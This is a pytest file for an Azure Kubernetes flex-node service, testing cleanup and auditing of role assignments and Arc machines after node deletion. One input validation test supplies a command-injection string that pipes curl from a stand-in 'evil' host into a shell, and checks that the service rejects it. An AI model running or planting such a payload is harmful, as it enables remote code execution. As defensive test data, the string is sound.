"""What a deleted node leaves in Azure: named in the answer, removed by the service if it may, and audited."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest

from aks_flex_node.azure.arm import AzureCallError
from aks_flex_node.azure.role_assignments import assignment_id
from aks_flex_node.azure.roles import CLUSTER_ROLES
from aks_flex_rp.nodes.azure_cleanup import AzureCleanup
from tests.service.rp.api import callers
from tests.service.rp.api.fake_clusters import PLANT

if TYPE_CHECKING:
    from tests.service.rp.api.client import Api
    from tests.service.rp.api.service_harness import Running
    from tests.service.rp.api.tenants import Tenant

OID = callers.NODE[:-1] + "0"  # as the tenant makes it from the application's ID
FOREIGN = "/subscriptions/1/resourceGroups/other/providers/Microsoft.HybridCompute/machines/other"


def body() -> dict[str, Any]:
    return {"properties": {"continuousMonitoring": True, "azureAuth": {"method": "arc", "arc": {"principalId": OID}}}}


def machine(name: str) -> str:
    group = f"/subscriptions/{PLANT.subscription}/resourceGroups/{PLANT.group}"
    return f"{group}/providers/Microsoft.HybridCompute/machines/{name}"


ASSIGNMENTS = [assignment_id(str(PLANT), role, OID) for role in CLUSTER_ROLES]


@dataclass
class FakeArm:
    """Azure that allows some deletions."""

    denied: str = ""
    principal: str = OID
    deleted: list[str] = field(default_factory=list)

    def get(self, path: str, api_version: str) -> dict[str, Any]:
        assert path
        assert api_version
        return {"identity": {"principalId": self.principal}}

    def delete(self, path: str, api_version: str) -> None:
        assert api_version
        if self.denied and self.denied in path:
            raise AzureCallError("arm-request-rejected", "Not allowed.", "", retryable=False, status=403)
        self.deleted.append(path)


@pytest.fixture
def deleted(service: Running, name: str) -> dict[str, Any]:
    service.admin.put(name, body())
    found: dict[str, Any] = service.admin.delete(name).json
    return found


def cleanup_with(service: Running, arm: FakeArm | None) -> AzureCleanup:
    return AzureCleanup(service.service.context, (lambda: arm) if arm else None)


def after_report(service: Running, name: str, arm: FakeArm | None, reported: list[str]) -> list[str]:
    return service.call(cleanup_with(service, arm).after_report(PLANT, name, reported, OID))


def cleanup_event(admin: Api, name: str) -> dict[str, Any]:
    [event] = admin.events(name, "azure.cleanup")
    found: dict[str, Any] = event["detail"]
    return found


def test_deletion_names_azure_resources_and_commands(deleted: dict[str, Any], name: str) -> None:
    assert [each["id"] for each in deleted["azureResources"]] == [*ASSIGNMENTS, machine(name)]
    commands = [each["command"] for each in deleted["azureResources"]]
    assert commands[0] == f"az role assignment delete --ids {ASSIGNMENTS[0]}"
    assert commands[-1] == f"az resource delete --ids {machine(name)}"
    assert "azure.cleanup" in deleted["azureNote"]


@pytest.mark.usefixtures("deleted")
def test_service_removes_what_the_agent_could_not_remove(service: Running, admin: Api, name: str) -> None:
    arm = FakeArm()

    removed = after_report(service, name, arm, [*ASSIGNMENTS, machine(name), FOREIGN])

    assert removed == arm.deleted == [*ASSIGNMENTS, machine(name)], "and nothing of others"
    detail = cleanup_event(admin, name)
    assert (detail["remaining"], detail["reportedByMachine"]) == ([], [FOREIGN]), (
        "no command for what is not verified"
    )


@pytest.mark.usefixtures("deleted")
def test_arc_machine_with_another_identity_is_never_removed(service: Running, admin: Api, name: str) -> None:
    arm = FakeArm(principal="somebody-else")

    assert after_report(service, name, arm, [machine(name)]) == []

    assert arm.deleted == []
    assert "another identity" in cleanup_event(admin, name)["why"]


@pytest.mark.parametrize("reported", ["/subscriptions/x;curl${IFS}evil|sh", "/subscriptions/\x1b[2J", "/etc/x"])
@pytest.mark.usefixtures("deleted")
def test_reported_resource_must_be_an_id(service: Running, tenant: Tenant, name: str, reported: str) -> None:
    own = service.admin.by(tenant, callers.NODE)

    assert own.report(name, {"remainingResources": [reported]}).status == 400


@pytest.mark.usefixtures("deleted")
@pytest.mark.parametrize("arm", [FakeArm(denied="HybridCompute"), None])
def test_what_remains_in_azure_is_audited_with_commands(
    service: Running, admin: Api, name: str, arm: FakeArm | None
) -> None:
    after_report(service, name, arm, [machine(name)])

    detail = cleanup_event(admin, name)
    assert detail["remaining"] == [f"az resource delete --ids {machine(name)}"]
    assert f"az resource delete --ids {machine(name)}" in detail["why"]


@pytest.mark.usefixtures("deleted")
def test_deleted_node_can_report_what_remains(service: Running, tenant: Tenant, name: str) -> None:
    own = service.admin.by(tenant, callers.NODE)

    answer = own.report(name, {"remainingResources": [machine(name)]})

    assert (answer.status, answer.json["removedResources"]) == (200, [])
    assert cleanup_event(service.admin, name)["remaining"] == [f"az resource delete --ids {machine(name)}"]
    assert own.report(name, {"agentVersion": "1"}).status == 404
    assert service.admin.report(name, {"remainingResources": []}).status == 404, "only the node itself may"


def test_machine_of_an_existing_node_is_never_removed(service: Running, name: str) -> None:
    service.admin.put(name, body())
    arm = FakeArm()

    assert after_report(service, name, arm, [machine(name)]) == []
    assert arm.deleted == []


def test_lost_machine_loses_its_role_assignments(service: Running, admin: Api, tenant: Tenant, name: str) -> None:
    by_identity = body()
    by_identity["properties"]["kubernetesAuth"] = {"useAzureAuth": True, "method": "exec"}
    admin.put(name, by_identity)
    own = admin.by(tenant, callers.NODE)
    assert own.report(name, {"joinState": "ConfigFetched"}).status == 200
    admin.delete(name)
    arm = FakeArm()

    service.call(cleanup_with(service, arm).after_removal(PLANT.key, name))

    assert arm.deleted == ASSIGNMENTS
    assert cleanup_event(admin, name)["remaining"] == [f"az resource delete --ids {machine(name)}"]


@pytest.mark.usefixtures("deleted")
def test_declared_identity_that_never_signed_in_keeps_its_roles(service: Running, admin: Api, name: str) -> None:
    arm = FakeArm()

    service.call(cleanup_with(service, arm).after_removal(PLANT.key, name))

    assert arm.deleted == [], "a user who writes the properties could name the identity of another machine"
    command = f"az role assignment list --scope {PLANT}"
    assert cleanup_event(admin, name)["remaining"] == [f"az resource delete --ids {machine(name)}", command]
